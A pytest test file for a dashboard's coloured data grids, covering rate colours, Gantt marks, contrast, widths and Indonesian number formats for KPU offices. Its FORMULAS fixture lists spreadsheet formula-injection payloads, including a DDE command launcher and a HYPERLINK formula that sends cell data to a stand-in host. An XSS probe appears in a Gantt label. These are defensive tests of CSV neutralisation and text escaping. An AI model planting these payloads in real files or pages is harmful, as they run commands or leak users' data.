"""Coloured data grids (rbdash.grids): the same cells, states and colours as the plotly figures."""

import dataclasses

import numpy as np
import pandas as pd
import pytest
from plotly.colors import hex_to_rgb, sample_colorscale, unlabel_rgb

from rbdash import charts, grids, views, wording
from rbdash.schedule import DONE, LATE, MONTHS, OUTSIDE, PLANNED, cell_states
from test_charts import acts_frame, heatmap


def completion(rows):
    """rows: (office, column, planned, realized, has_data) -> views.completion_cells."""
    df = pd.DataFrame(rows, columns=["satker", "col", "planned", "realized", "has_data"])
    df["rate"] = (df["realized"] / df["planned"].where(df["planned"] > 0)).where(df["has_data"])
    return views.completion_cells(df, "satker", "col")


def shown(styler):
    """The texts the grid shows, as Streamlit sends them (display values of the Styler)."""
    out = styler.data.copy().astype(object)
    for row in styler._translate(False, False)["body"]:
        for cell in row:
            if cell.get("type") == "td":
                r, c = cell["id"].split("_")
                out.iat[int(r[3:]), int(c[3:])] = cell["display_value"]
    return out


def css(styler):
    """{(row, column): 'background-color: ...; color: ...'} from the Styler's computed styles."""
    styler._compute()
    return {k: "; ".join(f"{p}: {v}" for p, v in props) for k, props in styler.ctx.items()}


CELLS = completion([
    ("KPU Kota A", 1, 4, 3, True), ("KPU Kota A", 2, 0, 0, True), ("KPU Kota A", "total", 4, 3, True),
    ("KPU Kota <b>B</b>", 1, 2, 0, False), ("KPU Kota <b>B</b>", 2, 1, 0, False),
    ("KPU Kota <b>B</b>", "total", 3, 0, False),
    ("KPU Kota C", 1, 5, 5, True), ("KPU Kota C", 2, 1, 0, True), ("KPU Kota C", "total", 6, 5, True)])
ROWS = ["KPU Kota A", "KPU Kota <b>B</b>", "KPU Kota C"]


def test_rate_grid_numbers_texts_and_states():
    styler = grids.rate_grid(heatmap(CELLS, ROWS, [1, 2, "total"], [wording.area_title(1), wording.area_title(2), "Total"]))
    data = styler.data
    assert list(data.columns) == ["Satker", "1 Manajemen Perubahan", "2 Deregulasi", "Total"]
    assert data["Satker"].tolist() == ROWS  # user text kept as it is: a grid cell is text, not markup
    # numbers, so a column sorts as numbers; empty where there is no rate
    assert data["1 Manajemen Perubahan"].tolist()[::2] == [75.0, 100.0]
    assert [data[c].dtype.kind for c in data.columns[1:4]] == ["f", "f", "f"]
    assert data.iloc[1, 1:4].isna().all() and np.isnan(data.iloc[0, 2])
    text = shown(styler)
    # nothing due in area 2, and an office that reported nothing: empty cells (light grey, grey: see the
    # colours test), never 0%; the names short as the figures write them, the value the full name
    assert text.iloc[0].tolist() == ["Kota A", "75,0%", "", "75,0%"]
    assert text.iloc[1].tolist() == ["Kota <b>B</b>", "", "", ""]
    assert text.iloc[2].tolist() == ["Kota C", "100,0%", "0,0%", "83,3%"]
    assert grids.PLACEHOLDER == ""  # what st.dataframe shows in an empty cell (pages pass it as placeholder)


def test_text_in_the_grids_reads_from_the_back_of_a_room():
    """Issue 21.7: every text a grid draws is at least 7:1 against its background.  Streamlit draws a
    pinned column and the placeholder of an empty cell faded (row labels at 4.7:1, the "–" of a
    cell without data at 1.8:1 on its grey): labels are not pinned (tests/test_app_*: column
    config) and empty cells show nothing."""
    assert grids.contrast(charts.INK, "#FFFFFF") >= 7
    faded_label, placeholder = "#70747D", "#888A8F"  # measured in Chromium's screenshots before the fix
    assert grids.contrast(faded_label, "#FFFFFF") < 7 and grids.contrast(placeholder, charts.NO_DATA_COLOR) < 2
    styler = grids.rate_grid(heatmap(CELLS, ROWS, [1, 2, "total"], ["1", "2", "Total"]))
    cells = css(styler)
    assert all(cells[(i, 0)] == f"color: {charts.INK}" for i in range(3))  # the labels in ink, on white
    text = shown(styler)
    for (i, j), style in cells.items():
        if j and text.iat[i, j]:
            bg, fg = (dict(p.split(": ") for p in style.split("; "))[k] for k in ("background-color", "color"))
            assert grids.contrast(fg, bg) >= 4.5, (text.iat[i, j], fg, bg)
    assert all(text.iat[i, j] == "" for i in range(3) for j in range(1, 4) if np.isnan(styler.data.iat[i, j]))


def test_rate_columns_fit_their_texts_and_the_page_at_1366():
    """Issue 21.4: every column as wide as its header and its widest shown text (areas headed 'Area 7',
    their names the help), and the widest grid of the country's offices (its longest names, 8 areas
    and a Total, and the row picker) within a page at 1366 px with the sidebar open."""
    from rbdash import regions
    hm = heatmap(CELLS, ROWS, [1, 2, "total"], [wording.area_title(1), wording.area_title(2), "Total"])
    hm = dataclasses.replace(hm, columns=tuple(views.Column(c.key, c.title, c.label, wording.area_header(c.key))
                                               if c.key != "total" else c for c in hm.columns))
    cols = grids.rate_columns(hm)
    assert list(cols) == ["Satker", "Area 1", "Area 2", "Total"]
    assert cols["Area 1"][1] == hm.columns[0].label and cols["Total"][1] is None
    assert all(px >= grids.text_px(t) for t, (px, _) in cols.items())
    assert cols["Area 1"][0] >= grids.text_px("100,0%")
    names = [o.name for o in regions.official_offices()]
    widest = grids.text_px(max((wording.office_label(n) for n in names), key=lambda t: grids.measure.width(t, 14)))
    assert grids.CHECKBOX_PX + widest + 9 * max(grids.text_px("Area 8"), grids.text_px("100,0%")) <= grids.PAGE_PX


def test_rate_grid_colours_match_the_heatmap_scale():
    styler = grids.rate_grid(heatmap(CELLS, ROWS, [1, 2, "total"], ["1", "2", "Total"]))
    cells = css(styler)
    assert cells[(0, 1)].startswith(f"background-color: {charts.rate_hex(0.75)}")
    assert f"background-color: {charts.NOT_SCHEDULED_COLOR}" in cells[(0, 2)]
    assert all(f"background-color: {charts.NO_DATA_COLOR}" in cells[(1, j)] for j in (1, 2, 3))
    assert cells[(2, 1)].startswith(f"background-color: {charts.rate_hex(1.0)}")
    assert cells[(2, 2)].startswith(f"background-color: {charts.rate_hex(0.0)}")
    assert (0, 0) not in cells or "background" not in cells[(0, 0)]  # the name column stays plain


def test_the_grids_colours_are_the_figures_colours():
    """charts.rate_hex (grids, workbooks, slides) interpolates RATE_SCALE as plotly draws the heatmaps,
    to within one step of 255 per channel (plotly drops the fraction, rate_hex rounds it)."""
    for rate in np.linspace(0, 1, 201):
        plotly_rgb = unlabel_rgb(sample_colorscale(charts.RATE_SCALE, [rate])[0])
        ours = hex_to_rgb(charts.rate_hex(rate))
        assert max(abs(a - b) for a, b in zip(plotly_rgb, ours)) <= 1, (rate, plotly_rgb, ours)


@pytest.mark.parametrize("colour, ink", [
    ("#D73027", "#FFFFFF"),  # the scale's red: white reads better
    ("#FEE08B", charts.INK), ("#F0F0F0", charts.INK), ("#BDBDBD", charts.INK), ("#1A9850", charts.INK),
    ("#111827", "#FFFFFF")])
def test_text_colour_is_the_more_legible_of_ink_and_white(colour, ink):
    assert grids.ink_on(colour) == ink


def test_grid_and_figure_read_the_cells_the_same_way():
    """One reading (views.heatmap): the figure's rates and the grid's numbers agree cell by cell."""
    hm = heatmap(CELLS, ROWS, [1, 2, "total"], ["1", "2", "Total"])
    fig = charts.rate_heatmap(hm)
    styler = grids.rate_grid(hm)
    z = np.array(fig.data[1].z, dtype=float)
    numbers = styler.data.iloc[:, 1:4]
    np.testing.assert_array_equal(np.isnan(z), numbers.isna().to_numpy())
    np.testing.assert_allclose(z[~np.isnan(z)], numbers.to_numpy(dtype=float)[~np.isnan(z)])
    # the row the figure writes "belum dilaporkan" across is the grid's row without a single rate
    assert fig.data[0].text[1][1] == "belum dilaporkan" and numbers.iloc[1].isna().all()


def test_grid_height_shows_the_provinces_whole_and_caps_large_ones():
    """Issue 21.7: 38 provinces are shown whole (the page scrolls, not a 10-row window inside it); 550
    offices scroll inside the grid, its header in view; a height given (the presentation view) caps."""
    assert grids.grid_height(3) == 4 * grids.ROW_PX + 3
    assert grids.grid_height(38) == 39 * grids.ROW_PX + 3
    assert grids.grid_height(550) == grids.MAX_HEIGHT_PX
    assert grids.grid_height(38, 44, 600) == 600 and grids.grid_height(3, 44, 600) == grids.ROW_PX + 3 * 44 + 3


def test_duplicate_column_titles_are_refused():
    with pytest.raises(ValueError, match="unique"):
        grids.rate_grid(heatmap(CELLS, ROWS, [1, 2], ["Satu", "Satu"]))


def test_rate_grid_styles_every_cell_of_550_offices():
    """550 offices × 9 columns: every cell styled once (the styles are what the browser receives)."""
    rows = [f"KPU Kabupaten {i}" for i in range(550)]
    cells = completion([(r, c, 4, i % 5, i % 7 != 0) for i, r in enumerate(rows) for c in range(1, 10)])
    styler = grids.rate_grid(heatmap(cells, rows, list(range(1, 10))))
    assert styler.data.shape == (550, 1 + 9) and len(css(styler)) == 550 * 10  # name (ink) and 9 rates


GANTT = acts_frame([
    (1, "Kegiatan A", "Sub A", "<script>alert(1)</script>", [1, 2, 3], [1]),
    (1, "Kegiatan A", "Sub A", "Indikator 2", [6], [7]),
    (1, "Kegiatan B", None, "Indikator 3", [12], []),
])


def test_gantt_grid_rows_marks_colours_and_source():
    styler = grids.gantt_grid(views.gantt_of(GANTT, as_of=3))
    data = styler.data
    assert list(data.columns) == [grids.LABEL, *MONTHS, grids.SOURCE]
    labels = data[grids.LABEL].tolist()
    # kegiatan, its sub kegiatan indented, the indikator under it indented twice; user text kept as text
    assert labels == ["Kegiatan A", grids.INDENT + "Sub A", grids.INDENT * 2 + "<script>alert(1)</script>",
                      grids.INDENT * 2 + "Indikator 2", "Kegiatan B", grids.INDENT * 2 + "Indikator 3"]
    months = data[list(MONTHS)].to_numpy()
    assert months[2, :4].tolist() == ["✓", "✗", "✗", ""]  # done in Jan; Feb and Mar due and not done: late
    assert months[3, 5:7].tolist() == ["○", "✓"]  # planned in Jun (not due), realised in Jul outside the plan
    assert months[5, 11] == "○" and (months[[0, 1, 4]] == "").all()
    assert data[grids.SOURCE].tolist() == ["", "", "baris 7 · Renaksi", "baris 8 · Renaksi", "", "baris 9 · Renaksi"]
    cells = css(styler)
    colour = {state: c for state, (c, _) in charts.GANTT_STATES.items()}
    assert cells[(2, 1)].startswith(f"background-color: {colour[DONE]}")
    assert cells[(2, 2)].startswith(f"background-color: {colour[LATE]}") and cells[(2, 2)].endswith("#FFFFFF")
    assert cells[(3, 6)].startswith(f"background-color: {colour[PLANNED]}")
    assert cells[(3, 7)].startswith(f"background-color: {colour[OUTSIDE]}")
    assert cells[(0, 0)] == f"background-color: {grids.HEADING_COLOR}" and (2, 0) not in cells


def test_gantt_grid_marks_are_the_schedules_states():
    """The grid's marks are schedule.cell_states, as every count of the office (no second reading)."""
    styler = grids.gantt_grid(views.gantt_of(GANTT, as_of=3, reported=0))
    acts = styler.data[styler.data[grids.SOURCE] != ""]
    states = cell_states(GANTT["planned_mask"], GANTT["realized_mask"], 3, reported=0)
    expected = np.vectorize(lambda s: grids.GANTT_MARKS.get(s, ""))(states)
    assert (acts[list(MONTHS)].to_numpy() == expected).all()
    assert "✗" not in expected and "?" in expected  # nothing reported: nothing late, the due months grey "?"


def test_gantt_grid_of_no_activities_is_empty():
    styler = grids.gantt_grid(views.gantt_of(GANTT.iloc[:0], as_of=3))
    assert styler.data.empty and list(styler.data.columns) == [grids.LABEL, *MONTHS, grids.SOURCE]


# ------------------------------------------------------------------ the grid's own CSV download (issue 18.3)

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_downloadable_neutralises_the_values_and_shows_the_text_as_written():
    """What the toolbar's "Download as CSV" writes (the values) carries no formula; the cells show the
    text as written, and numbers as the grid writes a number without a format."""
    df = pd.DataFrame({"Teks": [*FORMULAS, "- sudah", "aman", None], "Angka": [1.0, 2.5, 0.123456, *[3.0] * 7],
                       "Bulat": range(10)})
    out = grids.downloadable(df)
    assert out.data["Teks"].tolist()[:9] == ["'" + t for t in FORMULAS] + ["'- sudah", "aman"]
    assert pd.isna(out.data["Teks"].iloc[9])
    assert out.data[["Angka", "Bulat"]].equals(df[["Angka", "Bulat"]])
    display = shown(out)
    assert display["Teks"].tolist()[:9] == [*FORMULAS, "- sudah", "aman"]
    assert display["Angka"].tolist()[:3] == ["1", "2.5", "0.1235"] and display["Bulat"].tolist()[:2] == ["0", "1"]
    assert df["Teks"].iloc[0] == FORMULAS[0]  # the caller's frame is left alone


def test_downloadable_leaves_safe_frames_and_other_columns_alone():
    df = pd.DataFrame({"Satker": ["KPU Kota A"], "Catatan": ["=1+1"]})
    safe = df[["Satker"]]
    assert grids.downloadable(safe) is safe
    only = grids.downloadable(df, columns=("Satker",))
    assert only is df   # an editor's typed column stays what the user typed
    assert grids.downloadable(df, columns=("Catatan",)).data["Catatan"].tolist() == ["'=1+1"]


def test_downloadable_refuses_a_styler_not_built_neutralised():
    with pytest.raises(ValueError):
        grids.downloadable(pd.DataFrame({"x": ["=1+1"]}).style)


def test_text_that_reads_the_same_once_neutralised_shows_what_it_holds():
    out = grids.downloadable(pd.DataFrame({"x": ["=x", "'=x", "=y"]}))
    assert out.data["x"].tolist() == ["'=x", "'=x", "'=y"]
    assert shown(out)["x"].tolist() == ["'=x", "'=x", "=y"]


def test_grids_are_built_neutralised_and_show_the_text_as_written():
    acts = acts_frame([(1, FORMULAS[0], None, "- indikator", [1, 2], [1])])
    gantt = grids.gantt_grid(views.gantt_of(acts, 3))
    assert grids.downloadable(gantt) is gantt
    labels = gantt.data[grids.LABEL].tolist()
    assert "'" + FORMULAS[0] in labels and not any(str(t).startswith(("=", "+", "-", "@")) for t in labels)
    assert FORMULAS[0] in shown(gantt)[grids.LABEL].tolist()
    cells = completion([(FORMULAS[1], 1, 2, 1, True), (FORMULAS[1], "total", 2, 1, True)])
    rates = grids.rate_grid(heatmap(cells, [FORMULAS[1]], [1, "total"], ["Area 1", "Total"]))
    assert rates.data["Satker"].tolist() == ["'" + FORMULAS[1]]
    assert shown(rates)["Satker"].tolist() == [FORMULAS[1]] and shown(rates)["Total"].tolist() == ["50,0%"]


def test_tables_write_numbers_the_indonesian_way_and_keep_them_numbers():
    """Issue 21.5: the ranking and the trend table show 97,1% and 47.810 (the grid's printf formats
    wrote 97.1% and 47810), while the values stay numbers (a column sorts as numbers)."""
    df = pd.DataFrame({"name": ["KPU Kabupaten Barito Kuala", "KPU Kota Banjarbaru", "KPU Kota Kosong"],
                       "province": ["Kalimantan Selatan"] * 3, "planned": [47810, 3, 2], "realized": [46423, 1, 0],
                       "has_data": [True, True, False], "rate": [46423 / 47810, 1 / 3, np.nan],
                       "due": [47810, 3, 2], "reported": [47810, 3, 0], "reported_months": [9, 9, 0], "offices": 1,
                       "offices_with_data": 1})
    rank = views.ranked(df, "satker", 2024, 9)
    table = grids.ranking_table(rank)
    values, text = table.styler.data, shown(table.styler)
    assert values[wording.RATE].dtype.kind == "f" and values[wording.RATE].iloc[0] == pytest.approx(97.0989, abs=1e-3)
    assert text[wording.RATE].tolist() == ["97,1%", "33,3%", ""]  # without data: empty (and last), never 0%
    assert text[wording.REALISED].tolist() == ["46.423 dari 47.810", "1 dari 3", wording.DASH]
    assert text[wording.REPORTED].tolist() == ["47.810 dari 47.810", "3 dari 3", "0 dari 2"]
    assert text[wording.SATKER].tolist() == ["Kab. Barito Kuala", "Kota Banjarbaru", "Kota Kosong"]
    assert values[wording.SATKER].tolist()[0] == "KPU Kabupaten Barito Kuala"  # a picked row names the office
    assert all(table.widths[c] >= grids.text_px(c) for c in values.columns)
    assert table.widths[wording.REALISED] >= grids.text_px("46.423 dari 47.810")
    trend = views.trend_of(pd.DataFrame({"month": range(1, 13), "planned": [47810] + [0] * 11, "has_data": True,
                                         "planned_cum": [47810] * 12, "realized": [46423] + [np.nan] * 11,
                                         "realized_cum": [46423] + [np.nan] * 11,
                                         "rate": [46423 / 47810] + [np.nan] * 11,
                                         "rate_cum": [46423 / 47810] + [np.nan] * 11}), 1)
    months = shown(grids.trend_table(trend).styler)
    assert months.iloc[0].tolist() == ["Jan", "47.810", "46.423", "97,1%", "47.810", "46.423", "97,1%"]
    # the whole year's plan (the Tren view's table, issue 21.9): nothing realised after the as-of month
    assert len(months) == 12 and months.iloc[11].tolist() == ["Des", "0", "", "", "47.810", "", ""]


def test_gantt_labels_wrap_in_a_column_the_page_leaves_them():
    """Issue 21.4: the Gantt grid's labels (400-1,880 px of text) get the width the months and the
    source leave at 1366 px and wrap onto up to GANTT_LINES lines in taller rows (Streamlit wraps only
    rows taller than 64 px); short labels keep the one-line rows."""
    long = "Penyelenggaraan Integritas dilingkungan KPU Kabupaten Aceh Barat: " * 6
    widths, row_px = grids.gantt_columns(views.gantt_of(acts_frame([(1, "K", None, long, [1], [])]), as_of=3))
    assert sum(widths.values()) <= grids.PAGE_PX and widths[grids.LABEL] >= 250
    assert all(widths[m] >= grids.text_px(m) for m in MONTHS)
    assert row_px > 64 and row_px >= grids.GANTT_LINES * grids.LINE_PX
    _, short_px = grids.gantt_columns(views.gantt_of(acts_frame([(1, "K", None, "Rapat", [1], [])]), as_of=3))
    assert short_px == grids.ROW_PX
